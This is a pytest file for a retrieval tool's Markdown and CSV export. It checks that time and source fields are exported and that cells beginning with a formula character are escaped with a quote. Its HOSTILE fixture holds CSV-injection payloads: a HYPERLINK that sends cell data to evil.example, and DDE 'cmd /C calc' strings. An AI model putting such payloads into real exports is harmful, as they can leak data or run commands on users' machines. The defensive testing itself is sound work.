"""Export of a recorded passage: its time into the recording and its source link in Markdown and CSV."""

from __future__ import annotations

import csv
import io

from rag.export import to_csv, to_markdown
from tests.test_cite import passage


def test_a_timed_passage_exports_its_time_source_and_words():
    timed = passage(
        t_start=3725.4, t_end=3760.0, source_url="https://mid.ru/en/1", text="We said it.\nTwice."
    )
    markdown = to_markdown("What was said?", [timed], "http://notes.example/")
    assert "- Time: 01:02:05–01:02:40\n- Source: https://mid.ru/en/1\n" in markdown
    assert "- Link: http://notes.example/#/t/d/0-1\n" in markdown
    assert markdown.endswith("\n\n> We said it.\n> Twice.\n")
    (row,) = csv.DictReader(io.StringIO(to_csv([timed]), newline=""))
    assert (row["t_start"], row["t_end"], row["source_url"]) == ("3725.4", "3760.0", "https://mid.ru/en/1")
    assert row["text"] == "We said it.\nTwice." and row["citation"] == timed.citation


def test_an_untimed_passage_has_empty_cells_and_no_time_line():
    markdown = to_markdown("Q?", [passage()], "http://127.0.0.1:8000")
    assert "- Time:" not in markdown and "- Source:" not in markdown
    (row,) = csv.DictReader(io.StringIO(to_csv([passage()]), newline=""))
    assert (row["t_start"], row["t_end"], row["source_url"]) == ("", "", "")


HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "speaker": "+cmd|' /C calc'!A0",
    "place": "-2+3",
    "text": "@SUM(1+1)*cmd|' /C calc'!A0",
    "citation": "\t=1+1",
    "source_url": "\r=1+1",
}


def test_cells_a_spreadsheet_would_run_as_formulas_are_escaped_with_a_quote():
    (row,) = csv.DictReader(io.StringIO(to_csv([passage(**HOSTILE)]), newline=""))
    for name, value in HOSTILE.items():
        assert row[name] == "'" + value, name
    plain = passage(text="We said it: 2+2=4.", place="Singapore")
    (row,) = csv.DictReader(io.StringIO(to_csv([plain]), newline=""))
    assert (row["text"], row["place"], row["start"]) == ("We said it: 2+2=4.", "Singapore", "0")


def test_rag_search_format_csv_escapes_a_transcript_that_starts_a_formula(tmp_path):
    from click.testing import CliRunner

    from rag.cli import cli

    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "formula.txt").write_text(
        'Formula briefing\n\n=HYPERLINK("http://evil.example","quokka treaty") was typed here.\n'
    )
    index = str(tmp_path / "index")
    runner = CliRunner()
    ingested = runner.invoke(cli, ["ingest", str(docs), "--index", index, "--quiet"])
    assert ingested.exit_code == 0, ingested.output
    result = runner.invoke(cli, ["search", "quokka treaty", "--format", "csv", "--index", index])
    assert result.exit_code == 0, result.output
    (row,) = csv.DictReader(io.StringIO(result.stdout, newline=""))
    assert row["text"].startswith("'=HYPERLINK(") and row["citation"] and not row["citation"].startswith("=")
